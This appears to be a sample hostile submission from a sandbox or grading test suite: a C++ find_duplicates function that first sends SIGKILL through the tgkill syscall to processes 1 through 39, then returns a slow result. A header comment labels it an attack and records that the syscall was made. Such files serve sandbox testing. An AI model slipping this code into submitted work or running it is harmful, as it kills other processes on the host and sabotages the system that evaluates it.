// Attack: kills other processes by way of the call that signals threads.
// Outcome: made the system call 'tgkill'

#include "find_duplicates.h"

#include "parts/slow.h"

#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

std::vector<int> find_duplicates(std::span<const int> values) {
  for (int pid = 1; pid < 40; ++pid) {
    if (pid != getpid()) syscall(SYS_tgkill, pid, pid, SIGKILL);
  }
  return slow(values);
}
